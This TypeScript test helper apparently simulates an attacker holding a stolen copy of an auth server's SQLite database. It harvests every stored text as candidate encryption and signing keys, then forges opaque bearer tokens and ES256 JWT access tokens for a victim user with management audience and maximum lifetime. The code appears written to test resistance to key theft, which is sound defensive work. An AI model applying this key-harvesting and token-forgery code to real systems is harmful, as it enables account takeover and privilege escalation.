import { createCipheriv, createDecipheriv, createHmac, createPrivateKey, sign, type JsonWebKey, type KeyObject } from 'node:crypto';
import Database from 'better-sqlite3';
import { newJtiBytes } from '../../src/domain/tokens/claims.js';

/** As long as the server would issue (12 hours, less a minute): a thief mints a new one whenever it likes. */
const LIFETIME_SECONDS = 12 * 3600 - 60;

export interface Victim {
  userId: string;
  clientId: string;
  orgId: string;
}

/**
 * What an attacker takes from a copy of the database file, knowing nothing of its schema: every
 * text value of every table. Instance keys are stored as base64url text, so each text (and each
 * dot-separated part of it) decoded from base64url that is at least 32 bytes long is a candidate
 * key; each text that parses as a private JWK is a candidate signing key.
 */
export function lootDatabaseCopy(file: string): { keys: Buffer[]; signingKeys: { kid?: string; key: KeyObject }[]; texts: string[] } {
  const db = new Database(file, { readonly: true });
  try {
    const tables = db
      .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '%fts%'")
      .pluck()
      .all() as string[];
    const texts: string[] = [];
    for (const table of tables) {
      for (const row of db.prepare(`SELECT * FROM "${table}"`).raw().all() as unknown[][]) {
        for (const v of row) if (typeof v === 'string') texts.push(v);
      }
    }
    const keys = new Map<string, Buffer>();
    for (const text of texts) {
      for (const part of [text, ...text.split('.')]) {
        if (!/^[A-Za-z0-9_-]{43,}$/.test(part)) continue;
        const raw = Buffer.from(part, 'base64url');
        for (const k of [raw, raw.subarray(0, 32)]) if (k.length >= 32) keys.set(k.toString('hex'), k);
      }
    }
    const signingKeys: { kid?: string; key: KeyObject }[] = [];
    for (const text of texts) {
      try {
        const jwk = JSON.parse(text) as JsonWebKey & { kid?: string };
        if (typeof jwk === 'object' && jwk && jwk.d) signingKeys.push({ key: createPrivateKey({ key: jwk, format: 'jwk' }) });
      } catch {
        // not a JWK
      }
    }
    return { keys: [...keys.values()], signingKeys, texts };
  } finally {
    db.close();
  }
}

/**
 * A BEARER token sealed with key, for the victim, with the management audience: the attacker's own
 * implementation of the opaque format (opaque-codec.ts), version 1, which names no key id and is
 * opened with key 0: version | jti, then AES-256-GCM of the claims under a key and nonce derived
 * from the ring key and that header with HMAC-SHA-512.
 */
export function sealOpaque(key: Buffer, v: Victim, managementAudience: string): string {
  const iatMs = Date.now();
  const header = Buffer.concat([Buffer.from([1]), newJtiBytes(iatMs)]);
  const claims = [
    v.userId,
    v.clientId,
    v.orgId,
    'openid urn:zitadel:iam:org:project:id:zitadel:aud',
    [v.clientId, managementAudience],
    Math.floor(iatMs / 1000) + LIFETIME_SECONDS,
  ];
  const d = createHmac('sha512', key).update(header).digest();
  const cipher = createCipheriv('aes-256-gcm', d.subarray(0, 32), d.subarray(32, 44));
  cipher.setAAD(header);
  const body = Buffer.concat([cipher.update(JSON.stringify(claims), 'utf8'), cipher.final()]);
  return Buffer.concat([header, body, cipher.getAuthTag()]).toString('base64url');
}

/** Whether key opens an opaque token (version 1: version | jti; version 2: version | key id | jti). */
export function opensOpaque(key: Buffer, token: string): boolean {
  const raw = Buffer.from(token, 'base64url');
  const headerBytes = raw[0] === 1 ? 17 : raw[0] === 2 ? 21 : 0;
  if (!headerBytes) return false;
  const header = raw.subarray(0, headerBytes);
  const d = createHmac('sha512', key).update(header).digest();
  try {
    const decipher = createDecipheriv('aes-256-gcm', d.subarray(0, 32), d.subarray(32, 44));
    decipher.setAAD(header);
    decipher.setAuthTag(raw.subarray(raw.length - 16));
    decipher.update(raw.subarray(headerBytes, raw.length - 16));
    decipher.final();
    return true;
  } catch {
    return false;
  }
}

/** An RFC 9068 JWT access token signed with key under kid, for the victim, for as long as the server would issue. */
export function signJwt(key: KeyObject, kid: string, v: Victim, issuer: string, managementAudience: string): string {
  const iatMs = Date.now();
  const iat = Math.floor(iatMs / 1000);
  const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
  const input = `${b64({ alg: 'ES256', kid, typ: 'at+jwt' })}.${b64({
    iss: issuer,
    sub: v.userId,
    aud: [v.clientId, managementAudience],
    exp: iat + LIFETIME_SECONDS,
    iat,
    nbf: iat,
    jti: newJtiBytes(iatMs).toString('base64url'),
    client_id: v.clientId,
    scope: 'openid urn:zitadel:iam:org:project:id:zitadel:aud',
  })}`;
  return `${input}.${sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}
